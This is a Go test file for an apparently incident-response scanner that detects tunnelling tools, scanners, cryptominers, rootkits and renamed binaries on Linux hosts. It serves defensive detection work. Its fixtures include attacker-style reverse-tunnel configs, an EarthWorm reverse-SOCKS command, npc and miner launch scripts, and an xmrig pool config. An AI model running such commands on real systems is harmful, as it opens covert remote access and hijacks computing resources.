package tools

import (
	"bytes"
	"fmt"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/vigil-ir/vigil/internal/engine"
	"github.com/vigil-ir/vigil/internal/engine/enginetest"
	"github.com/vigil-ir/vigil/internal/model"
	"github.com/vigil-ir/vigil/internal/target"
	"github.com/vigil-ir/vigil/internal/testutil"
	"github.com/vigil-ir/vigil/internal/testutil/dpkgfixture"
)

// j joins a marker written split with '|' (as in the catalog), so that this
// test binary, copied into a fixture, does not hold the markers either.
func j(s string) string { return strings.ReplaceAll(s, "|", "") }

// elf builds a fake ELF file holding the given strings among filler bytes.
func elf(strs ...string) []byte {
	var b bytes.Buffer
	b.WriteString("\x7fELF\x02\x01\x01\x00")
	b.Write(bytes.Repeat([]byte{0}, 56))
	for i, s := range strs {
		b.Write(bytes.Repeat([]byte{byte(i + 1)}, 3000))
		b.WriteString(s)
		b.WriteByte(0)
	}
	b.Write(bytes.Repeat([]byte{0x90}, 2048))
	return b.Bytes()
}

var (
	curlELF   = elf("libcurl.so.4", j("curl: try '|curl --help'"), "curl 7.88.1")
	wgetELF   = elf(j("GNU |Wget"), "wgetrc")
	ncELF     = elf(j("OpenBSD| netcat"), "nc.openbsd")
	frpELF    = elf("runtime.main", j("github.com/|fatedier/frp/client"), "go1.21.4")
	chiselELF = elf(j("github.com/jp|illora/chisel/client"), "ssh")
	fscanELF  = elf(j("github.com/sh|adow1ng/fscan/Plugins"), "ms17010")
	xmrigELF  = elf(j("XMR|ig/6.21.0"), j("xmri|g.com"), j("--donat|e-level"), "randomx")
	busyELF   = elf(j("BusyBox is a mu|lti-call binary."), "BusyBox v1.36.1")
)

func put(t testing.TB, dir, p string, b []byte, mode os.FileMode) {
	t.Helper()
	hp := filepath.Join(dir, filepath.FromSlash(p))
	if err := os.MkdirAll(filepath.Dir(hp), 0o755); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(hp, b, mode); err != nil {
		t.Fatal(err)
	}
	os.Chmod(hp, mode)
}

// fixture builds the clean root, its packaged binaries and dpkg database,
// then extra txtar entries and binary files.
func fixture(t testing.TB, extra string, bins map[string][]byte) string {
	t.Helper()
	clean, err := os.ReadFile("testdata/clean.txtar")
	if err != nil {
		t.Fatal(err)
	}
	dir := testutil.RootFromString(t, string(clean)+extra)
	put(t, dir, "usr/bin/curl", curlELF, 0o755)
	put(t, dir, "usr/bin/wget", wgetELF, 0o755)
	put(t, dir, "usr/bin/nc.openbsd", ncELF, 0o755)
	os.MkdirAll(filepath.Join(dir, "etc/alternatives"), 0o755)
	os.Symlink("/usr/bin/nc.openbsd", filepath.Join(dir, "etc/alternatives/nc"))
	os.Symlink("/etc/alternatives/nc", filepath.Join(dir, "usr/bin/nc"))
	// Lived-in unowned binaries: an exporter, a static busybox, dev tools.
	put(t, dir, "usr/local/bin/node_exporter", elf("github.com/prometheus/node_exporter"), 0o755)
	put(t, dir, "usr/local/bin/busybox", busyELF, 0o755)
	put(t, dir, "usr/local/bin/proxy", elf("github.com/acme/edge-proxy"), 0o755)
	put(t, dir, "home/ops/go/bin/gopls", elf("golang.org/x/tools/gopls"), 0o755)
	put(t, dir, "opt/app/bin/app", elf("github.com/acme/app"), 0o755)
	put(t, dir, "opt/nmap/bin/nmap", elf(j("Nmap scan |report for")), 0o755)
	for p, b := range bins {
		put(t, dir, p, b, 0o755)
	}
	dpkgfixture.Write(t, dir,
		dpkgfixture.Package{Name: "curl", Files: []string{"/usr/bin/curl"}},
		dpkgfixture.Package{Name: "wget", Files: []string{"/usr/bin/wget"}},
		dpkgfixture.Package{Name: "netcat-openbsd", Files: []string{"/usr/bin/nc.openbsd"}},
		dpkgfixture.Package{Name: "logrotate", Files: []string{"/etc/cron.daily/logrotate"}},
		dpkgfixture.Package{Name: "nmap-local", Files: []string{"/opt/nmap/bin/nmap"}},
	)
	return dir
}

func TestCleanLivedInIsQuiet(t *testing.T) {
	self, err := os.ReadFile(os.Args[0])
	if err != nil {
		t.Fatal(err)
	}
	// A responder copied vigil to /tmp: it must not match its own markers.
	r := enginetest.Run(t, New(), fixture(t, "", map[string][]byte{"tmp/vigil": self}), false)
	enginetest.Quiet(t, r.Findings, model.Low)
	for _, g := range r.Gaps {
		t.Errorf("unexpected gap: %+v", g)
	}
}

func TestFires(t *testing.T) {
	tests := []struct {
		name    string
		extra   string
		bins    map[string][]byte
		rule    string
		subject string
		min     model.Severity
		ind     string
	}{
		{"frpc in hidden tmp dir", "", map[string][]byte{"tmp/.x/frpc": frpELF}, ruleTunnelBinary, "/tmp/.x/frpc", model.High, indStrings},
		{"frp renamed kworkerd", "", map[string][]byte{"usr/local/bin/kworkerd": frpELF}, ruleTunnelBinary, "kworkerd", model.High, indStrings},
		{"frpc_linux_amd64 by name", "", map[string][]byte{"root/frpc_linux_amd64": elf("stripped")}, ruleTunnelBinary, "frpc_linux_amd64", model.Medium, indName},
		{"chisel as sshd in /dev/shm", "", map[string][]byte{"dev/shm/sshd": chiselELF}, ruleTunnelBinary, "/dev/shm/sshd", model.High, indWritable},
		{"frpc.ini to public server", "-- tmp/.x/frpc.ini --\n[common]\nserver_addr = 203.0.113.10\nserver_port = 7000\ntoken = s3cret\n\n[ssh]\ntype = tcp\nlocal_ip = 127.0.0.1\nlocal_port = 22\nremote_port = 6000\n", nil, ruleTunnelConfig, "203.0.113.10:7000", model.Critical, indPublic},
		{"frpc.toml to a name", "-- root/.config/frpc.toml --\nserverAddr = \"frp.evil.example\"\nserverPort = 7000\n\n[[proxies]]\nname = \"socks\"\ntype = \"tcp\"\nremotePort = 6001\n", nil, ruleTunnelConfig, "frp.evil.example:7000", model.Critical, indPublic},
		{"frpc.ini to internal server", "-- home/ops/frpc.ini --\n[common]\nserver_addr = 10.20.0.5\nserver_port = 7000\n", nil, ruleTunnelConfig, "10.20.0.5:7000", model.High, indPrivate},
		{"frps server config", "-- opt/frp/frps.ini --\n[common]\nbind_port = 7000\ndashboard_port = 7500\n", nil, ruleTunnelConfig, "/opt/frp/frps.ini", model.High, ""},
		{"npc.conf", "-- var/tmp/.n/npc.conf --\n[common]\nserver_addr=203.0.113.20:8024\nconn_type=tcp\nvkey=1a2b3c\n", nil, ruleTunnelConfig, "203.0.113.20:8024", model.Critical, indPublic},
		{"npc start script", "-- root/.n/start.sh --\n#!/bin/sh\ncd /root/.n && nohup ./npc -server=203.0.113.20:8024 -vkey=1a2b3c -type=tcp >/dev/null 2>&1 &\n", nil, ruleTunnelConfig, "203.0.113.20:8024", model.Critical, indPublic},
		{"EarthWorm reverse socks", "-- tmp/run.sh --\n#!/bin/sh\n./ew_for_linux64 -s rssocks -d 198.51.100.44 -e 8888\n", nil, ruleTunnelConfig, "198.51.100.44", model.Critical, indPublic},
		{"ngrok authtoken", "-- home/ops/.config/ngrok/ngrok.yml --\nversion: \"2\"\nauthtoken: 2Zq8vXexampletoken0123456789abcdef\n", nil, ruleTunnelConfig, "ngrok.com", model.Critical, indPublic},
		{"fscan", "", map[string][]byte{"tmp/fscan": fscanELF}, ruleScannerBinary, "/tmp/fscan", model.High, indName},
		{"nmap by name in tmp", "", map[string][]byte{"tmp/nmap": elf("stripped")}, ruleScannerBinary, "/tmp/nmap", model.High, indWritable},
		{"linpeas script", "-- tmp/linpeas.sh --\n#!/bin/sh\n# linpeas - " + j("PEAS|S-ng") + " by carlospolop\necho linpeas\n", nil, ruleScannerBinary, "/tmp/linpeas.sh", model.High, indStrings},
		{"xmrig", "", map[string][]byte{"var/tmp/.cache/xmrig": xmrigELF}, ruleMinerBinary, "/var/tmp/.cache/xmrig", model.High, indStrings},
		{"diamorphine module in tmp", "", map[string][]byte{"tmp/.k/x.ko": elf("vermagic=6.1.0", j("diamorphine_sec|ret"))}, ruleRootkitBinary, "/tmp/.k/x.ko", model.Critical, indStrings},
		{"libprocesshider build in root", "", map[string][]byte{"root/ph/hider.so": elf("readdir64", j("evil_scr|ipt.py"))}, ruleRootkitBinary, "/root/ph/hider.so", model.Critical, indStrings},
		{"kinsing by name", "", map[string][]byte{"tmp/kdevtmpfsi": elf("packed")}, ruleMinerBinary, "/tmp/kdevtmpfsi", model.High, indName},
		{"xmrig config.json", "-- var/tmp/.cache/config.json --\n{\n  \"autosave\": true,\n  \"donate-level\": 1,\n  \"cpu\": true,\n  \"pools\": [\n    {\"url\": \"pool.supportxmr.com:3333\", \"user\": \"44AFFq5kSiGBoZ4NMDwYtN18obc8AemS33DBLWs3H7otXft3XjrpDtQGv7SqSsaBYBb98uNbr2VBBEt7f2wfn3RVGQBEP3A\", \"keepalive\": true}\n  ]\n}\n", nil, ruleMinerConfig, "pool.supportxmr.com:3333", model.Critical, indPublic},
		{"stratum in a script", "-- root/.systemd/run.sh --\n#!/bin/bash\n/root/.systemd/kthreadd -o stratum+tcp://203.0.113.99:4444 -u x -p x --cpu-max-threads-hint=75\n", nil, ruleMinerConfig, "203.0.113.99:4444", model.Critical, indPublic},
		{"renamed packaged curl", "", map[string][]byte{"tmp/.k/kthreadd": curlELF}, ruleRenamed, "/tmp/.k/kthreadd", model.High, indCopy},
		{"nc copy in home", "", map[string][]byte{"home/ops/.local/share/.s/dbus-daemon": ncELF}, ruleRenamed, "dbus-daemon", model.High, indCopy},
		{"wget copy in tmp", "", map[string][]byte{"tmp/wget": wgetELF}, ruleRenamed, "/tmp/wget", model.Medium, indCopy},
		{"static busybox renamed", "", map[string][]byte{"dev/shm/.s/dbus": busyELF}, ruleRenamed, "/dev/shm/.s/dbus", model.High, indStrings},
		{"site archive in tmp", "-- tmp/www.tar.gz --\ngz\n", nil, ruleArchive, "/tmp/www.tar.gz", model.Medium, ""},
		{"db dump in web root", "-- var/www/html/db_backup.sql.gz --\ngz\n", nil, ruleArchive, "/var/www/html/db_backup.sql.gz", model.Medium, ""},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			r := enginetest.Run(t, New(), fixture(t, tc.extra, tc.bins), false)
			var got *model.Finding
			for i, f := range r.Findings {
				if f.RuleID == tc.rule && strings.Contains(f.Subject, tc.subject) {
					got = &r.Findings[i]
				}
			}
			if got == nil {
				t.Fatalf("no %s for %s; got %v", tc.rule, tc.subject, describe(r.Findings))
			}
			if got.Severity < tc.min {
				t.Errorf("severity %s < %s: %+v", got.Severity, tc.min, got.Evidence)
			}
			if tc.ind != "" && !containsStr(got.Indicators, tc.ind) {
				t.Errorf("indicators %v lack %s", got.Indicators, tc.ind)
			}
			if got.Evidence.Path == "" || got.Evidence.Text == "" {
				t.Errorf("evidence incomplete: %+v", got.Evidence)
			}
		})
	}
}

func describe(fs []model.Finding) []string {
	var out []string
	for _, f := range fs {
		out = append(out, f.RuleID+" "+f.Subject+" "+f.Severity.String())
	}
	return out
}

func TestBigArchive(t *testing.T) {
	dir := fixture(t, "", nil)
	f, err := os.Create(filepath.Join(dir, "tmp/export.7z"))
	if err != nil {
		t.Fatal(err)
	}
	f.Truncate(60 << 20) // sparse: size is what counts
	f.Close()
	r := enginetest.Run(t, New(), dir, false)
	if !r.Has(ruleArchive, "/tmp/export.7z") {
		t.Errorf("big archive not reported: %v", describe(r.Findings))
	}
}

// TestQuietCases are legitimate files that look like the bad ones.
func TestQuietCases(t *testing.T) {
	sigDB := elf(j("github.com/|fatedier/frp"), j("github.com/jp|illora/chisel"), j("github.com/sh|adow1ng/fscan"), j("XMR|ig/"), j("github.com/projec|tdiscovery/nuclei"))
	tests := []struct {
		name  string
		extra string
		bins  map[string][]byte
	}{
		{"packaged tool in /opt", "", nil},
		{"detection tool with many signatures", "", map[string][]byte{"opt/hids/bin/agent": sigDB}},
		{"admin's static socat in /usr/local/bin", "", map[string][]byte{"usr/local/bin/socat": elf(j("socat by Ge|rhard Rieger"))}},
		{"a saved vigil report quoting a miner", "-- tmp/ir/web1.json --\n{\n  \"schema_version\": 1,\n  \"scan\": {\"id\": \"x\", \"tool\": \"vigil\"},\n  \"findings\": [{\"evidence\": {\"text\": \"ExecStart=/var/tmp/.x/kworker -o stratum+tcp://198.51.100.2:3333 --donate-level 1\"}}]\n}\n" +
			"-- tmp/ir/web1.jsonl --\n{\"type\":\"scan\",\"scan\":{\"id\":\"x\",\"tool\":\"vigil\"},\"schema_version\":1}\n{\"type\":\"finding\",\"finding\":{\"evidence\":{\"text\":\"./xmrig -o stratum+tcp://198.51.100.2:3333 -u 4AbC --donate-level 1\"}}}\n", nil},
		{"hostile files", "-- tmp/fifo fifo --\n-- tmp/loop/a -> b --\n-- tmp/loop/b -> a --\n-- tmp/\xff\xfe --\nx\n-- tmp/frpc -> /usr/bin/curl --\n", nil},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			r := enginetest.Run(t, New(), fixture(t, tc.extra, tc.bins), false)
			enginetest.Quiet(t, r.Findings, model.Low)
		})
	}
}

func TestByName(t *testing.T) {
	tests := []struct {
		name, tool string
	}{
		{"frpc", "frp"}, {"frpc_linux_amd64", "frp"}, {"ew_for_linux64", "EarthWorm"}, {"fscan64", "fscan"},
		{"xmrig-6.21.0", "XMRig"}, {"FSCAN.exe", "fscan"}, {"npcap", ""}, {"frpcx", ""}, {"newsletter", ""}, {"nmap", "nmap"},
	}
	for _, tc := range tests {
		got, ok := byName(tc.name)
		if (tc.tool == "") == ok || (ok && got.name != tc.tool) {
			t.Errorf("byName(%q) = %q %v, want %q", tc.name, got.name, ok, tc.tool)
		}
	}
}

func TestHostScope(t *testing.T) {
	for in, want := range map[string]string{
		"203.0.113.10:7000": "public", "10.0.0.5": "private", "127.0.0.1:7000": "loopback", "localhost": "loopback",
		"pool.supportxmr.com:3333": "public", "[fd00::1]:7000": "private", "100.64.1.1": "private", "intranet-gw": "private",
		"stratum+tcp://203.0.113.1:4444": "public",
	} {
		if got := hostScope(in); got != want {
			t.Errorf("hostScope(%q) = %s, want %s", in, got, want)
		}
	}
}

func FuzzConfigs(f *testing.F) {
	f.Add("config.json", "{\"pools\":[{\"url\":\"x:3333\"}],\"donate-level\":1}")
	f.Add("frpc.ini", "[common]\nserver_addr = 1.2.3.4\nserver_port = 7000\n")
	f.Add("run.sh", "#!/bin/sh\n./npc -server=1.2.3.4:8024 -vkey=x\nngrok tcp 22\n")
	f.Fuzz(func(t *testing.T, base, s string) {
		for _, c := range findConfigs(base, s, true) {
			if c.line < 1 || c.what == "" {
				t.Fatalf("bad hit %+v", c)
			}
			hostScope(c.server)
		}
		byName(base)
		archiveExt(base)
	})
}

// naiveHits is what scanContent finds, the simple way: each marker looked
// for in the whole content.
func naiveHits(b []byte) []string {
	var out []string
	for _, t := range catalog {
		for _, g := range t.marks {
			all := len(g) > 0
			for _, m := range g {
				all = all && bytes.Contains(b, []byte(m))
			}
			if all {
				out = append(out, t.name+": "+strings.Join(g, " + "))
				break
			}
		}
	}
	return out
}

func hitNames(hs []contentHit) []string {
	var out []string
	for _, h := range hs {
		out = append(out, h.tool.name+": "+h.marker)
	}
	return out
}

func FuzzScanContent(f *testing.F) {
	f.Add(frpELF)
	f.Add(xmrigELF)
	f.Add([]byte(j("stratum|+tcp://")))
	f.Add([]byte(j("xx sqlma|p.org stratu|m+tcp://x T-|Rex pooler/|cpuminer")))
	f.Fuzz(func(t *testing.T, b []byte) {
		res, err := scanContent(bytes.NewReader(b), 1<<20, nil)
		if err != nil {
			return
		}
		if res.self {
			if !bytes.Contains(b, selfMark) {
				t.Fatalf("self without the mark")
			}
			return // reading stops at the mark
		}
		if res.size != int64(len(b)) {
			t.Fatalf("size %d for %d bytes", res.size, len(b))
		}
		if got, want := strings.Join(hitNames(res.hits), "; "), strings.Join(naiveHits(b), "; "); got != want {
			t.Fatalf("hits %q, want %q", got, want)
		}
		if res.sha256 != sha(b) {
			t.Fatalf("sha256 %s, want %s", res.sha256, sha(b))
		}
	})
}

// TestScanContentBoundaries puts each marker of a group across a different
// chunk boundary, split at its start, middle and end.
func TestScanContentBoundaries(t *testing.T) {
	filler := benchData()
	for _, tl := range catalog {
		for gi, g := range tl.marks {
			for _, split := range []int{1, 0, -1} {
				b := append([]byte(nil), filler[:(len(g)+1)*chunkSize]...)
				for i, m := range g {
					k := split
					switch split {
					case 0:
						k = len(m) / 2
					case -1:
						k = len(m) - 1
					}
					copy(b[(i+1)*chunkSize-k:], m)
				}
				res, err := scanContent(bytes.NewReader(b), maxBinary, nil)
				if err != nil {
					t.Fatal(err)
				}
				want := tl.name + ": " + strings.Join(g, " + ")
				if !containsStr(hitNames(res.hits), want) && !earlierGroup(tl, gi, res.hits) {
					t.Errorf("%s split %d: hits %v, want %s", tl.name, split, hitNames(res.hits), want)
				}
				if res.size != int64(len(b)) || res.sha256 != sha(b) {
					t.Errorf("%s: size %d sha %s for %d bytes", tl.name, res.size, res.sha256, len(b))
				}
			}
		}
	}
}

// earlierGroup: a tool reports its first matching group only.
func earlierGroup(tl tool, gi int, hits []contentHit) bool {
	for _, h := range hits {
		if h.tool.name == tl.name {
			for _, g := range tl.marks[:gi] {
				if h.marker == strings.Join(g, " + ") {
					return true
				}
			}
		}
	}
	return false
}

// TestScanContentSelf: a Vigil build is recognised, even across a chunk
// boundary, and not read past its mark.
func TestScanContentSelf(t *testing.T) {
	b := benchData()
	copy(b[chunkSize-10:], selfMark)
	copy(b[3*chunkSize:], j("github.com/|fatedier/frp"))
	res, err := scanContent(bytes.NewReader(b), maxBinary, nil)
	if err != nil || !res.self {
		t.Fatalf("self %v err %v", res.self, err)
	}
	if res.size >= int64(len(b)) || len(res.hits) != 0 {
		t.Errorf("read %d of %d bytes, hits %v", res.size, len(b), hitNames(res.hits))
	}
}

// TestHardLinks: each name of a hard-linked tool is reported; the content
// is read once.
func TestHardLinks(t *testing.T) {
	dir := fixture(t, "", map[string][]byte{"tmp/.x/frpc": frpELF})
	if err := os.MkdirAll(filepath.Join(dir, "root/.cache"), 0o755); err != nil {
		t.Fatal(err)
	}
	if err := os.Link(filepath.Join(dir, "tmp/.x/frpc"), filepath.Join(dir, "root/.cache/kworker")); err != nil {
		t.Skip(err)
	}
	r := enginetest.Run(t, New(), dir, false)
	for _, p := range []string{"/tmp/.x/frpc", "/root/.cache/kworker"} {
		if !r.Has(ruleTunnelBinary, p) {
			t.Errorf("%s not reported: %v", p, describe(r.Findings))
		}
	}
	for _, f := range r.Findings {
		if f.RuleID == ruleTunnelBinary && f.Evidence.SHA256 != sha(frpELF) {
			t.Errorf("%s: sha256 %q", f.Subject, f.Evidence.SHA256)
		}
	}
}

func BenchmarkTools(b *testing.B) {
	dir := fixture(b, "", map[string][]byte{"tmp/.x/frpc": frpELF, "var/tmp/xmrig": xmrigELF})
	tg := target.NewUnchecked(dir, false)
	for b.Loop() {
		enginetest.RunTarget(b, New(), tg, engine.Options{})
	}
}

// benchData is a few MiB of pseudo-random bytes with markers in it: one
// near the start, one across a chunk boundary, one near the end.
func benchData() []byte {
	b := make([]byte, 8<<20)
	var x uint64 = 0x9e3779b97f4a7c15
	for i := range b {
		x ^= x << 13
		x ^= x >> 7
		x ^= x << 17
		b[i] = byte(x)
	}
	copy(b[4096:], j("github.com/|fatedier/frp"))
	m := j("XMR|ig/")
	copy(b[chunkSize-len(m)/2:], m)
	copy(b[len(b)-4096:], j("xmri|g.com"))
	return b
}

func BenchmarkScanContent(b *testing.B) {
	data := benchData()
	buf := make([]byte, chunkSize+64<<10)
	b.SetBytes(int64(len(data)))
	for b.Loop() {
		res, err := scanContent(bytes.NewReader(data), maxBinary, buf)
		if err != nil || len(res.hits) != 2 {
			b.Fatalf("hits %v err %v", res.hits, err)
		}
	}
}

// BenchmarkToolsManyFiles is a lived-in tree: many small unpackaged
// binaries, scripts and empty files.
func BenchmarkToolsManyFiles(b *testing.B) {
	data := benchData()
	bins := map[string][]byte{"tmp/.x/frpc": frpELF}
	for i := range 300 {
		off := (i * 40000) % (len(data) - 200000)
		bin := append([]byte("\x7fELF"), data[off:off+20000+i*500]...)
		bins[fmt.Sprintf("opt/app%d/bin/tool%d", i%10, i)] = bin
		bins[fmt.Sprintf("home/ops/.local/lib/pkg%d/__init__.py", i)] = nil
		bins[fmt.Sprintf("home/ops/bin/run%d.sh", i)] = []byte("#!/bin/sh\nexec /opt/app/bin/app --serve\n")
	}
	dir := fixture(b, "", bins)
	tg := target.NewUnchecked(dir, false)
	for b.Loop() {
		enginetest.RunTarget(b, New(), tg, engine.Options{})
	}
}
